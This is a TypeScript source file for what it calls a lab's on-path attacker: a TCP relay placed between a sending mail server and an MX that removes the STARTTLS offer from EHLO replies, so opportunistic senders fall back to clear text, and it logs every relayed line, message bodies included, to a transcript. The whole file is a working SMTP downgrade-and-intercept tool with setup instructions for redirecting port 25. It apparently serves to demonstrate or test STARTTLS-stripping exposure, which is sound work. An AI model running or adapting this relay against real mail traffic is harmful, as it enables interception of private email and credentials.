/**
 * The lab's on-path attacker: a TCP relay between a sending MTA and an MX that removes STARTTLS
 * from every multi-line EHLO reply. A client starts TLS only when the server offers it (RFC 3207
 * §4), so an opportunistic sender carries on in clear, and everything it sends, body included,
 * passes through here. Every line relayed is written to a transcript (JSON lines), which is what
 * the attacker reads.
 *
 * Run inside the router namespace, behind an nftables `redirect` of port 25:
 *   node -r scripts/ts-register.js starttls-stripper.ts <listen-port> <mx-address> <mx-port> <transcript>
 */
import { appendFileSync } from "node:fs";
import { createConnection, createServer, Socket } from "node:net";

/** One transcript entry: a line as it crossed the attacker, or a connection event. */
export interface TranscriptEntry {
  readonly connection: number;
  readonly from: "client" | "server" | "attacker";
  readonly line: string;
  /** True for a server line the attacker removed before it reached the client. */
  readonly stripped?: boolean;
}

/**
 * An SMTP reply (its lines, without CRLF) with any `STARTTLS` extension line removed; the last
 * remaining line gets the final-line separator (`250 ` instead of `250-`, RFC 5321 §4.2.1).
 */
export function stripStartTls(reply: readonly string[]): { lines: string[]; stripped: string[] } {
  const isStartTls = (line: string) => /^\d{3}[ -]STARTTLS\s*$/i.test(line);
  const stripped = reply.filter(isStartTls);
  if (stripped.length === 0) return { lines: [...reply], stripped };
  const lines = reply.filter((l) => !isStartTls(l));
  if (lines.length > 0) {
    const last = lines.length - 1;
    lines[last] = lines[last].replace(/^(\d{3})-/, "$1 ");
  }
  return { lines, stripped };
}

function main(argv: readonly string[]): void {
  const [listenPort, mxAddress, mxPort, transcript] = argv;
  if (!transcript) throw new Error("usage: starttls-stripper.ts <listen-port> <mx-address> <mx-port> <transcript>");
  const record = (entry: TranscriptEntry) => appendFileSync(transcript, JSON.stringify(entry) + "\n");
  let connections = 0;

  const server = createServer((client: Socket) => {
    const connection = ++connections;
    const mx = createConnection({ host: mxAddress, port: Number(mxPort) });
    record({ connection, from: "attacker", line: `relaying ${client.remoteAddress}:${client.remotePort} to ${mxAddress}:${mxPort}` });
    // Once the client asks for TLS anyway, the bytes are no longer lines: relay them untouched.
    let passthrough = false;
    let fromClient = "";
    let fromServer = "";
    let pendingReply: string[] = [];

    client.on("data", (chunk: Buffer) => {
      mx.write(chunk);
      if (passthrough) return;
      fromClient += chunk.toString("latin1");
      const lines = fromClient.split("\r\n");
      fromClient = lines.pop() ?? "";
      for (const line of lines) {
        record({ connection, from: "client", line });
        if (/^STARTTLS\s*$/i.test(line)) passthrough = true;
      }
    });

    mx.on("data", (chunk: Buffer) => {
      if (passthrough) {
        client.write(chunk);
        return;
      }
      fromServer += chunk.toString("latin1");
      const lines = fromServer.split("\r\n");
      fromServer = lines.pop() ?? "";
      for (const line of lines) {
        pendingReply.push(line);
        if (/^\d{3}-/.test(line)) continue; // more lines of the same reply follow
        const { lines: relayed, stripped } = stripStartTls(pendingReply);
        for (const l of pendingReply) record({ connection, from: "server", line: l, ...(stripped.includes(l) ? { stripped: true } : {}) });
        client.write(Buffer.from(relayed.map((l) => l + "\r\n").join(""), "latin1"));
        pendingReply = [];
      }
    });

    const close = () => {
      client.destroy();
      mx.destroy();
    };
    for (const socket of [client, mx]) {
      socket.setTimeout(60_000, close);
      socket.on("error", close);
      socket.on("close", close);
    }
  });
  server.listen(Number(listenPort), "0.0.0.0");
  process.on("SIGTERM", () => process.exit(0));
}

if (require.main === module) main(process.argv.slice(2));
